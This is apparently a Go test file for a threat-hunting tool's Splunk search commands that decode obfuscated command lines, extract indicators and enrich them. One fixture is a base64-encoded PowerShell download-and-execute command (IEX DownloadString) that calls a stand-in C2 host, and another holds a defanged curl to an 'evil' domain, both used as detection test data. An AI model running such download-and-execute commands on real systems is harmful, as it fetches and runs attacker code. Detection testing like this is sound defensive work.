package cli

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"encoding/pem"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/hunchsec/hunch/internal/demogeo"
	"github.com/hunchsec/hunch/pipeline"
	"github.com/hunchsec/hunch/record"
	"github.com/hunchsec/hunch/siem/splunk/app"
	"github.com/hunchsec/hunch/siem/splunk/scp"
)

// encodedCommand returns PowerShell's -EncodedCommand form of script (base64 of UTF-16LE).
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// splunkInput builds what splunkd writes: getinfo with the search's args (and command name
// when given), then one execute chunk per batch, the last one finished.
func splunkInput(command string, args []string, batches ...[]record.Record) string {
	si := map[string]any{"args": args, "raw_args": args, "app": "hunch", "sid": "1.1", "session_key": "secret-key", "splunk_version": "9.3.0"}
	if command != "" {
		si["command"] = command
	}
	meta, _ := json.Marshal(map[string]any{"action": "getinfo", "preview": false, "searchinfo": si})
	b := scp.AppendChunk(nil, meta, nil)
	for i, batch := range batches {
		m := `{"action":"execute","finished":false}`
		if i == len(batches)-1 {
			m = `{"action":"execute","finished":true}`
		}
		b = scp.AppendChunk(b, []byte(m), scp.AppendBody(nil, batch))
	}
	return string(b)
}

// splunkReply decodes a command's output: the metadata of each chunk and all records.
func splunkReply(t *testing.T, out string) (metas []string, recs []record.Record) {
	t.Helper()
	d := scp.NewDecoder(strings.NewReader(out))
	for {
		c, err := d.Next()
		if errors.Is(err, io.EOF) {
			return metas, recs
		}
		if err != nil {
			t.Fatalf("reply: %v", err)
		}
		metas = append(metas, string(c.Metadata))
		rs, err := scp.DecodeBody(c.Body, 0)
		if err != nil {
			t.Fatalf("reply body: %v", err)
		}
		recs = append(recs, rs...)
	}
}

func event(time, host, cmdline string) record.Record {
	return record.New(record.Field{Name: "_time", Value: record.String(time)}, record.Field{Name: "host", Value: record.String(host)},
		record.Field{Name: "CommandLine", Value: record.String(cmdline)})
}

func text(r record.Record, name string) string {
	v, _ := r.Get(name)
	return v.Text()
}

// TestSplunkCommandUnpackThenExtract runs | hunchunpack field=CommandLine | hunchextract
// field=full_decoded as splunkd would: two processes, the first one's reply feeding the second.
func TestSplunkCommandUnpackThenExtract(t *testing.T) {
	enc := "powershell.exe -nop -w hidden -enc " + encodedCommand("IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/stage2.ps1'); Invoke-Thing -Server 203.0.113.77")
	in := splunkInput("", []string{"field=CommandLine"},
		[]record.Record{event("1700000000.5", "ws1", enc), event("1700000001", "ws2", "cmd.exe /c dir")},
		[]record.Record{event("1700000002", "ws3", "notepad.exe"), record.New(record.Field{Name: "_time", Value: record.String("1700000003")})},
	)
	code, out, errOut := runHunch(t, in, "splunk-command", "hunchunpack")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	metas, recs := splunkReply(t, out)
	if want := []string{`{"type":"streaming"}`, `{"finished":false}`, `{"finished":true}`}; strings.Join(metas, " ") != strings.Join(want, " ") {
		t.Errorf("metadata %q, want %q", metas, want)
	}
	if len(recs) != 4 {
		t.Fatalf("%d records, want 4 (one blob, two without blobs, one without the field)", len(recs))
	}
	// The reply's columns are the chunk's union; the passed-on event fills only its own.
	if text(recs[3], "_time") != "1700000003" || text(recs[3], "blob") != "" || text(recs[3], "full_decoded") != "" {
		t.Errorf("event without the field came back as %v", recs[3])
	}
	recs = recs[:3]
	if !strings.Contains(text(recs[0], "full_decoded"), "http://c2.example.com/stage2.ps1") || text(recs[0], "encoding") != "base64>utf16le" ||
		text(recs[0], "_time") != "1700000000.5" || text(recs[0], "host") != "ws1" || text(recs[0], "field") != "CommandLine" {
		t.Errorf("blob record %v", recs[0])
	}
	if text(recs[1], "full_decoded") != "cmd.exe /c dir" || text(recs[2], "host") != "ws3" || text(recs[2], "record") != "3" {
		t.Errorf("passed-on records %v %v", recs[1], recs[2])
	}

	// The second command gets the first one's records; options partly from its argv.
	in2 := splunkInput("hunchextract", []string{"field=full_decoded", "types=url,ipv4"}, recs)
	code, out, errOut = runHunch(t, in2, "splunk-command", "hunchextract", "types=domain")
	if code != ExitOK {
		t.Fatalf("extract: exit %d: %s", code, errOut)
	}
	_, found := splunkReply(t, out)
	var got []string
	for _, r := range found {
		got = append(got, text(r, "type")+"="+text(r, "value"))
		if text(r, "host") != "ws1" || text(r, "_time") != "1700000000.5" {
			t.Errorf("match lost its event's fields: %v", r)
		}
	}
	if want := "url=http://c2.example.com/stage2.ps1 ipv4=203.0.113.77"; strings.Join(got, " ") != want {
		t.Errorf("indicators %q, want %q", got, want)
	}
}

func TestSplunkCommandExtractOptions(t *testing.T) {
	batch := []record.Record{event("1", "a", "ping 198.51.100.7 && ping 198.51.100.7"), event("2", "b", "curl hxxp://evil[.]example[.]net/x")}
	tests := []struct {
		name string
		argv []string
		args []string
		want string
	}{
		{"bare field name, all types", []string{"hunchextract"}, []string{"CommandLine"}, "ipv4=198.51.100.7 ipv4=198.51.100.7 url=http://evil.example.net/x domain=evil.example.net"},
		{"unique per record", []string{"hunchextract"}, []string{"field=CommandLine", "unique=record", "types=ipv4"}, "ipv4=198.51.100.7"},
		{"name from searchinfo", nil, []string{"field=CommandLine", "types=url"}, "url=http://evil.example.net/x"},
		{"underscore option names", []string{"hunchextract", "types=domain"}, []string{"field=CommandLine", "file_tlds=t"}, "domain=evil.example.net"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			in := splunkInput("hunchextract", tc.args, batch)
			code, out, errOut := runHunch(t, in, append([]string{"splunk-command"}, tc.argv...)...)
			if code != ExitOK {
				t.Fatalf("exit %d: %s", code, errOut)
			}
			_, recs := splunkReply(t, out)
			var got []string
			for _, r := range recs {
				got = append(got, text(r, "type")+"="+text(r, "value"))
			}
			if strings.Join(got, " ") != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// TestSplunkCommandUniqueGlobal checks that unique=global spans chunks and that its limit
// reaches the job inspector as a warning.
func TestSplunkCommandUniqueGlobal(t *testing.T) {
	b1 := []record.Record{event("1", "a", "198.51.100.1 198.51.100.2")}
	b2 := []record.Record{event("2", "a", "198.51.100.1 198.51.100.3")}
	in := splunkInput("", []string{"field=CommandLine", "unique=global", "max_unique=2"}, b1, b2)
	code, out, errOut := runHunch(t, in, "splunk-command", "hunchextract")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	metas, recs := splunkReply(t, out)
	var got []string
	for _, r := range recs {
		got = append(got, text(r, "value"))
	}
	if strings.Join(got, " ") != "198.51.100.1 198.51.100.2 198.51.100.3" {
		t.Errorf("values %q", got)
	}
	if !strings.Contains(metas[2], `["WARN","unique-value limit reached: 2 distinct values remembered`) {
		t.Errorf("no limit warning in %q", metas)
	}
}

func TestSplunkCommandErrors(t *testing.T) {
	good := splunkInput("", []string{"field=CommandLine"}, []record.Record{event("1", "a", "x")})
	tests := []struct {
		name  string
		args  []string
		in    string
		code  int
		inMsg string
	}{
		{"unknown command", []string{"splunk-command", "hunchnope"}, good, ExitUsage, `unknown search command \"hunchnope\"`},
		{"no command", []string{"splunk-command"}, good, ExitUsage, "no command name"},
		{"unknown option", []string{"splunk-command", "hunchunpack", "colour=red"}, good, ExitUsage, "unknown flag: --colour"},
		{"bad option value", []string{"splunk-command", "hunchextract", "types=nonsense"}, good, ExitUsage, "nonsense"},
		{"bad jobs", []string{"splunk-command", "hunchunpack", "jobs=0"}, good, ExitUsage, "jobs must be at least 1"},
		{"malformed chunk", []string{"splunk-command", "hunchunpack"}, good[:len(good)-3] + "\"\r\n", ExitFailure, "row 1"},
		{"not the protocol", []string{"splunk-command", "hunchunpack"}, "CommandLine\nfoo\n", ExitFailure, "bad transport header"},
		{"records limit", []string{"splunk-command", "--max-records", "1", "hunchunpack"},
			splunkInput("", nil, []record.Record{event("1", "a", "x"), event("2", "b", "y")}), ExitFailure, "more than 1 records"},
		{"body limit", []string{"splunk-command", "--max-body", "10", "hunchunpack"}, good, ExitFailure, "exceeds the limit of 10"},
		{"metadata limit", []string{"splunk-command", "--max-metadata", "10", "hunchunpack"}, good, ExitFailure, "exceeds the limit of 10"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errOut := runHunch(t, tc.in, tc.args...)
			if code != tc.code {
				t.Fatalf("exit %d, want %d: %s", code, tc.code, errOut)
			}
			metas, _ := splunkReply(t, out)
			if len(metas) == 0 {
				t.Fatal("nothing sent to splunkd")
			}
			last := metas[len(metas)-1]
			if !strings.Contains(last, `[["ERROR","hunch: `) || !strings.Contains(last, tc.inMsg) || !strings.HasSuffix(last, `"finished":true}`) {
				t.Errorf("last reply %s, want an ERROR with %q", last, tc.inMsg)
			}
			if !strings.Contains(errOut, "splunk-command") {
				t.Errorf("stderr %q", errOut)
			}
			if strings.Contains(out+errOut, "secret-key") {
				t.Error("session key leaked")
			}
		})
	}
}

func TestSplunkCommandMaxChunkSize(t *testing.T) {
	var batch []record.Record
	for i := range 50 {
		batch = append(batch, event("1", "h", strings.Repeat("x", i+1)))
	}
	in := splunkInput("", []string{"field=CommandLine"}, batch)
	code, out, errOut := runHunch(t, in, "splunk-command", "--max-chunk-size", "2000", "hunchunpack")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	d := scp.NewDecoder(strings.NewReader(out))
	n, chunks := 0, 0
	for {
		c, err := d.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if len(c.Metadata)+len(c.Body) > 2000 {
			t.Errorf("chunk of %d bytes", len(c.Metadata)+len(c.Body))
		}
		rs, _ := scp.DecodeBody(c.Body, 0)
		n += len(rs)
		chunks++
	}
	if n != 50 || chunks < 4 {
		t.Errorf("%d records in %d chunks", n, chunks)
	}
}

// TestSplunkCommandLookup enriches extracted indicators in place with the example lists.
func TestSplunkCommandLookup(t *testing.T) {
	data := t.TempDir()
	if err := demogeo.Write(filepath.Join(data, "geoip", "demo.mmdb")); err != nil {
		t.Fatal(err)
	}
	batch := []record.Record{
		record.New(record.Field{Name: "host", Value: record.String("ws1")}, record.Field{Name: "value", Value: record.String("c2.example.com")}, record.Field{Name: "type", Value: record.String("domain")}),
		record.New(record.Field{Name: "host", Value: record.String("ws2")}, record.Field{Name: "value", Value: record.String("203.0.113.77")}),
	}
	in := splunkInput("", []string{"field=value"}, batch)
	code, out, errOut := runHunch(t, in, "--config", "../../examples/hunch.yaml", "--data", data, "splunk-command", "hunchlookup")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	_, recs := splunkReply(t, out)
	if len(recs) != 2 {
		t.Fatalf("%d records", len(recs))
	}
	if text(recs[0], "host") != "ws1" || text(recs[0], "verdict") != "malicious" || text(recs[1], "verdict") != "malicious" || text(recs[1], "country") != "SG" {
		t.Errorf("records %v", recs)
	}
	var buf bytes.Buffer
	buf.WriteString(out)
	if strings.Contains(buf.String(), "secret-key") {
		t.Error("session key leaked")
	}
}

// TestSplunkKeepMatchesPipeline checks that hunchextract's own handling of the event's fields
// gives exactly what pipeline.Extract's Keep gives, collisions included.
func TestSplunkKeepMatchesPipeline(t *testing.T) {
	mk := func(n int, fs ...string) record.Record {
		var r record.Record
		for i := 0; i < len(fs); i += 2 {
			r.Append(fs[i], record.String(fs[i+1]))
		}
		r.Meta = record.Meta{Source: "splunk", N: n}
		return r
	}
	events := []record.Record{
		mk(1, "_time", "1", "source", "WinEventLog", "src_source", "x", "type", "4688", "CommandLine", "ping 198.51.100.7 http://a.example.com/"),
		mk(2, "_time", "2", "source", "WinEventLog", "src_source", "y", "type", "4688", "CommandLine", "nothing here"),
		mk(3, "_time", "3", "source", "Sysmon", "src_source", "z", "type", "1", "CommandLine", "curl evil.example.net"),
		mk(4, "other", "layout", "CommandLine", "203.0.113.9"),
	}
	stream := func() record.Stream {
		return func(yield func(record.Record, error) bool) {
			for _, e := range events {
				if !yield(e, nil) {
					return
				}
			}
		}
	}
	for _, fields := range [][]string{{"CommandLine"}, nil} {
		want := pipeline.Extract(context.Background(), stream(), pipeline.ExtractOptions{Fields: fields, Keep: true})
		var wantRecs []record.Record
		for r, err := range want {
			if err != nil {
				t.Fatal(err)
			}
			wantRecs = append(wantRecs, r)
		}
		po := pipeline.ExtractOptions{Fields: fields}
		c := &splunkCommand{keep: &keeper{skip: fields}, transform: func(ctx context.Context, s record.Stream) record.Stream { return pipeline.Extract(ctx, s, po) }}
		var got []record.Record
		for r, err := range c.ProcessStream(context.Background(), stream()) {
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, r.Clone()) // the stream reuses a record's storage
		}
		if len(got) != len(wantRecs) || len(got) < 4 {
			t.Fatalf("fields %v: %d records, want %d", fields, len(got), len(wantRecs))
		}
		for i := range got {
			if !got[i].Equal(wantRecs[i]) || strings.Join(got[i].Names(), ",") != strings.Join(wantRecs[i].Names(), ",") {
				t.Errorf("fields %v, record %d:\n got %v\nwant %v", fields, i, got[i].Names(), wantRecs[i].Names())
			}
		}
	}
}

// tinyELF writes a minimal x86-64 ELF executable, with a PT_INTERP when interp is set.
func tinyELF(t *testing.T, interp string) string {
	t.Helper()
	var b bytes.Buffer
	le := binary.LittleEndian
	nph := uint16(1)
	if interp != "" {
		nph = 2
	}
	b.Write([]byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	for _, v := range []any{uint16(2), uint16(62), uint32(1), uint64(0x401000), uint64(64), uint64(0), uint32(0), uint16(64), uint16(56), nph, uint16(64), uint16(0), uint16(0)} {
		binary.Write(&b, le, v)
	}
	off := uint64(64 + 56*int(nph))
	for i, typ := range []uint32{1, 3}[:nph] {
		size := off + 64
		o := uint64(0)
		if i == 1 {
			o, size = off, uint64(len(interp)+1)
		}
		for _, v := range []any{typ, uint32(5), o, 0x400000 + o, 0x400000 + o, size, size, uint64(0x1000)} {
			binary.Write(&b, le, v)
		}
	}
	b.WriteString(interp + "\x00")
	b.Write(make([]byte, 64))
	p := filepath.Join(t.TempDir(), "hunch")
	if err := os.WriteFile(p, b.Bytes(), 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestSplunkAppBuild(t *testing.T) {
	static := tinyELF(t, "")
	out := filepath.Join(t.TempDir(), "hunch.tgz")
	code, _, errOut := runHunch(t, "", "splunk-app", "build", "--binary", static, "--app-version", "2.0.1", "--out", out)
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	got := map[string]string{}
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(tr)
		got[h.Name] = string(b)
	}
	want, _ := os.ReadFile(static)
	if got["hunch/linux_x86_64/bin/hunch"] != string(want) || !strings.Contains(got["hunch/default/app.conf"], "version = 2.0.1") ||
		!strings.Contains(got["hunch/default/commands.conf"], "command.arg.2 = hunchextract") {
		t.Errorf("archive entries %d: app.conf %q", len(got), got["hunch/default/app.conf"])
	}

	for _, tc := range []struct {
		args []string
		code int
		msg  string
	}{
		{[]string{"splunk-app", "build", "--binary", tinyELF(t, "/lib64/ld-linux-x86-64.so.2"), "--out", out}, ExitFailure, "dynamically linked"},
		{[]string{"splunk-app", "build", "--binary", static}, ExitUsage, "--out is required"},
		{[]string{"splunk-app", "build", "--binary", static, "--out", filepath.Join(t.TempDir(), "no", "such", "dir.tgz")}, ExitFailure, "writing app"},
	} {
		code, _, errOut := runHunch(t, "", tc.args...)
		if code != tc.code || !strings.Contains(errOut, tc.msg) {
			t.Errorf("%v: exit %d, %q; want %d, %q", tc.args, code, errOut, tc.code, tc.msg)
		}
	}
	// The archive written before the failed builds is untouched.
	if b, _ := os.ReadFile(out); len(b) == 0 {
		t.Error("a failed build clobbered the archive")
	}
	code, stdout, _ := runHunch(t, "", "splunk-app", "build", "--binary", static, "--out", "-")
	if code != ExitOK || !strings.HasPrefix(stdout, "\x1f\x8b") {
		t.Errorf("--out -: exit %d, %d bytes", code, len(stdout))
	}
}

// TestSplunkCommandAppSettings runs hunchlookup as installed in an app: the app's hunch.conf
// names hunch.yaml and the data directory.
func TestSplunkCommandAppSettings(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "hunch")
	data := filepath.Join(dir, "local", "data")
	if err := demogeo.Write(filepath.Join(data, "geoip", "demo.mmdb")); err != nil {
		t.Fatal(err)
	}
	examples, _ := filepath.Abs("../../examples/hunch.yaml")
	for p, body := range map[string]string{
		"default/app.conf":   "[ui]\nlabel = Hunch\n",
		"default/hunch.conf": "[settings]\nconfig = local/hunch.yaml\ndata = local/data\n",
		"local/hunch.conf":   "[settings]\nconfig = " + examples + "\n",
	} {
		os.MkdirAll(filepath.Join(dir, filepath.Dir(p)), 0o755)
		os.WriteFile(filepath.Join(dir, p), []byte(body), 0o644)
	}
	in := splunkInput("", []string{"field=value"}, []record.Record{record.New(record.Field{Name: "value", Value: record.String("203.0.113.77")})})
	code, out, errOut := runHunch(t, in, "splunk-command", "--app-dir", dir, "hunchlookup")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	_, recs := splunkReply(t, out)
	if len(recs) != 1 || text(recs[0], "verdict") != "malicious" || text(recs[0], "country") != "SG" {
		t.Errorf("records %v", recs)
	}
	// Without the app's settings there are no providers: the refusal reaches splunkd.
	os.WriteFile(filepath.Join(dir, "local/hunch.conf"), []byte("[settings]\nconfig = local/absent.yaml\ndata = "+t.TempDir()+"\n"), 0o644)
	code, out, _ = runHunch(t, in, "splunk-command", "--app-dir", dir, "hunchlookup")
	metas, _ := splunkReply(t, out)
	if code != ExitFailure || len(metas) != 1 || !strings.Contains(metas[0], "no usable providers") {
		t.Errorf("exit %d, replies %q", code, metas)
	}
	os.WriteFile(filepath.Join(dir, "local/hunch.conf"), []byte("[settings\n"), 0o644)
	code, out, _ = runHunch(t, in, "splunk-command", "--app-dir", dir, "hunchlookup")
	metas, _ = splunkReply(t, out)
	if code != ExitFailure || len(metas) != 1 || !strings.Contains(metas[0], "stanza without ]") {
		t.Errorf("exit %d, replies %q", code, metas)
	}
}

// TestSplunkAppCommandsServed checks that every command the app declares is one splunk-command serves.
func TestSplunkAppCommandsServed(t *testing.T) {
	var names []string
	for _, c := range app.Commands() {
		names = append(names, c.Name)
		in := splunkInput("", []string{"jobs=0"}, nil)
		_, out, _ := runHunch(t, in, "splunk-command", c.Name)
		metas, _ := splunkReply(t, out)
		// jobs=0 is refused by every command's own option check, after the name was accepted.
		if len(metas) != 1 || strings.Contains(metas[0], "unknown search command") {
			t.Errorf("%s: %q", c.Name, metas)
		}
	}
	if strings.Join(names, ", ") != splunkCommandNames {
		t.Errorf("app declares %v, splunk-command serves %s", names, splunkCommandNames)
	}
}

// TestSplunkCommandLookupFailures shows a provider's failures in the job inspector as warnings,
// per chunk, while the search goes on.
func TestSplunkCommandLookupFailures(t *testing.T) {
	srv, _ := vtServer(t, "the-right-key")
	cfg := writeConfig(t, "enrich:\n  providers:\n    virustotal:\n      key: wrong-key\n      base_url: "+srv.URL+"\n")
	b1 := []record.Record{record.New(record.Field{Name: "value", Value: record.String("203.0.113.9")})}
	b2 := []record.Record{record.New(record.Field{Name: "value", Value: record.String("198.51.100.1")})}
	in := splunkInput("", []string{"field=value", "no_cache=t"}, b1, b2)
	code, out, errOut := runHunch(t, in, "--config", cfg, "--data", t.TempDir(), "splunk-command", "hunchlookup")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	metas, recs := splunkReply(t, out)
	if len(metas) != 3 || len(recs) != 2 {
		t.Fatalf("replies %q, %d records", metas, len(recs))
	}
	for _, m := range metas[1:] {
		if !strings.Contains(m, `["WARN","hunch: lookup failed (1×): virustotal`) || !strings.Contains(m, `["WARN","hunch: 1 lookup(s) failed; their rows say why"]`) {
			t.Errorf("reply %s: want the failure as warnings", m)
		}
	}
	if !strings.Contains(text(recs[0], "virustotal"), "error") {
		t.Errorf("row %v does not say why", recs[0])
	}
}

// TestSplunkCommandCredentialStore: with [credentials] realm set, the provider secret comes from
// splunkd's credential store, read with the session key of the search, over TLS checked
// against $SPLUNK_HOME/etc/auth/cacert.pem.
func TestSplunkCommandCredentialStore(t *testing.T) {
	vt, _ := vtServer(t, "the-right-key")
	var asked []string
	splunkd := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = append(asked, r.Method+" "+r.URL.Path+" "+r.Header.Get("Authorization"))
		if r.Header.Get("Authorization") != "Splunk secret-key" {
			w.WriteHeader(http.StatusUnauthorized)
			io.WriteString(w, `{"messages":[{"type":"ERROR","text":"call not properly authenticated"}]}`)
			return
		}
		io.WriteString(w, `{"entry":[{"name":"hunch:VT_KEY:","content":{"clear_password":"the-right-key","realm":"hunch","username":"VT_KEY"}}]}`)
	}))
	defer splunkd.Close()
	home := t.TempDir()
	os.MkdirAll(filepath.Join(home, "etc", "auth"), 0o755)
	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: splunkd.Certificate().Raw})
	os.WriteFile(filepath.Join(home, "etc", "auth", "cacert.pem"), certPEM, 0o644)

	dir := filepath.Join(t.TempDir(), "hunch")
	for p, body := range map[string]string{
		"default/hunch.conf": "[settings]\nconfig = local/hunch.yaml\ndata = local/data\n[credentials]\nrealm = hunch\n",
		"local/hunch.yaml":   "enrich:\n  providers:\n    virustotal:\n      key: env:VT_KEY\n      base_url: " + vt.URL + "\n",
	} {
		os.MkdirAll(filepath.Join(dir, filepath.Dir(p)), 0o755)
		os.WriteFile(filepath.Join(dir, p), []byte(body), 0o644)
	}
	input := func(uri, key string) string {
		si := map[string]any{"args": []string{"field=value", "no_geoip=t"}, "app": "hunch", "sid": "1.1", "splunkd_uri": uri, "session_key": key}
		meta, _ := json.Marshal(map[string]any{"action": "getinfo", "searchinfo": si})
		b := scp.AppendChunk(nil, meta, nil)
		return string(scp.AppendChunk(b, []byte(`{"action":"execute","finished":true}`),
			scp.AppendBody(nil, []record.Record{record.New(record.Field{Name: "value", Value: record.String("203.0.113.9")})})))
	}
	vars := map[string]string{"SPLUNK_HOME": home}
	code, out, errOut := runHunchEnv(t, vars, input(splunkd.URL, "secret-key"), "splunk-command", "--app-dir", dir, "hunchlookup")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	_, recs := splunkReply(t, out)
	if len(recs) != 1 || text(recs[0], "verdict") != "malicious" {
		t.Fatalf("records %v", recs)
	}
	if len(asked) != 1 || asked[0] != "GET /servicesNS/nobody/hunch/storage/passwords Splunk secret-key" {
		t.Errorf("splunkd was asked %q", asked)
	}
	// A session key splunkd refuses, and no session key at all: the reason reaches the job inspector.
	for _, tc := range []struct{ uri, key, want string }{
		{splunkd.URL, "stale-key", "call not properly authenticated"},
		{"", "", "splunkd sent no splunkd_uri and session_key"},
	} {
		code, out, _ = runHunchEnv(t, vars, input(tc.uri, tc.key), "splunk-command", "--app-dir", dir, "hunchlookup")
		metas, _ := splunkReply(t, out)
		if code != ExitFailure || len(metas) != 1 || !strings.Contains(metas[0], tc.want) {
			t.Errorf("exit %d, replies %q, want %q", code, metas, tc.want)
		}
	}
	// Without the CA, splunkd's certificate is not trusted.
	code, out, _ = runHunchEnv(t, nil, input(splunkd.URL, "secret-key"), "splunk-command", "--app-dir", dir, "hunchlookup")
	if metas, _ := splunkReply(t, out); code != ExitFailure || len(metas) != 1 || !strings.Contains(metas[0], "certificate") {
		t.Errorf("untrusted splunkd: exit %d, %q", code, metas)
	}
}
